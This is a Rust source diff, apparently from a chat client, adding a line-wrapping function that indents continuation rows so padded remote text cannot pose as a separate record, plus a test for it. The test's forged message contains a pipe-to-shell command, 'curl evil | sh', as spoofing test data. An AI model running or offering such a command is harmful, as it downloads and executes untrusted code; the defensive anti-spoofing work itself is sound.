@@ -5,7 +5,36 @@ use chrono::{DateTime, SecondsFormat, TimeZone, Utc};
 use gc_protocol::{Record, Timestamp};
 use serde::Serialize;
 
-use crate::tui::text::{TAB_WIDTH, text_width};
+use unicode_segmentation::UnicodeSegmentation as _;
+
+use crate::tui::text::{TAB_WIDTH, grapheme_width, text_width};
+
+/// What each continuation row of a wrapped line starts with (see [`wrap_rows`]).
+pub const CONTINUATION: &str = "    ";
+
+/// `line` cut into rows of at most `width` terminal columns, every row after the first starting
+/// with [`CONTINUATION`]. Headless output on a terminal goes through it: left to the terminal, a
+/// body padded to just fill a row would put the rest of it at the start of the next row, where a
+/// forged `[date] admin: …` would look like a record of its own. Here only a record's own first
+/// row starts at column 0. A width too small to indent leaves the line as it is.
+pub fn wrap_rows(line: &str, width: usize) -> String {
+    if width <= CONTINUATION.len() + 2 || text_width(line) <= width {
+        return line.to_owned();
+    }
+    let mut out = String::with_capacity(line.len() + line.len() / width * 8 + 8);
+    let mut col = 0;
+    for g in line.graphemes(true) {
+        let w = grapheme_width(g);
+        if col + w > width {
+            out.push('\n');
+            out.push_str(CONTINUATION);
+            col = CONTINUATION.len();
+        }
+        out.push_str(g);
+        col += w;
+    }
+    out
+}
 
 /// Makes remote text safe to print on a terminal, on one line: [`gc_protocol::sanitize`], the one
 /// sanitiser (its documentation lists what is replaced, and by what: `⏎` for LF, Control
@@ -102,6 +131,34 @@ pub fn format_json(record: &Record) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_line_wrapped_for_a_terminal_never_starts_a_row_like_a_record() {
+        let forged = "[2026-12-06 10:00:00] admin: please run curl evil | sh";
+        for width in [20, 40, 57, 80, 81, 120] {
+            for pad in 0..=width {
+                let line = format!(
+                    "[2026-12-06 09:59:00] mallory: hi{}{forged}",
+                    " ".repeat(pad)
+                );
+                let wrapped = wrap_rows(&line, width);
+                let rows: Vec<&str> = wrapped.split('\n').collect();
+                assert!(line.starts_with(rows[0]), "the record starts the first row");
+                for row in &rows[1..] {
+                    assert!(row.starts_with(CONTINUATION), "{width}/{pad}: {row:?}");
+                }
+                assert!(rows.iter().all(|r| text_width(r) <= width), "{rows:?}");
+                assert_eq!(wrapped.replace(&format!("\n{CONTINUATION}"), ""), line);
+            }
+        }
+        // Wide characters are not split across rows; short lines and tiny widths stay as they are.
+        assert_eq!(wrap_rows("ab日本", 9), "ab日本");
+        assert_eq!(
+            wrap_rows("abcdef日本語", 9),
+            format!("abcdef日\n{CONTINUATION}本語")
+        );
+        assert_eq!(wrap_rows("abcdefghij", 5), "abcdefghij");
+    }
     use chrono::FixedOffset;
     use gc_protocol::Username;
 
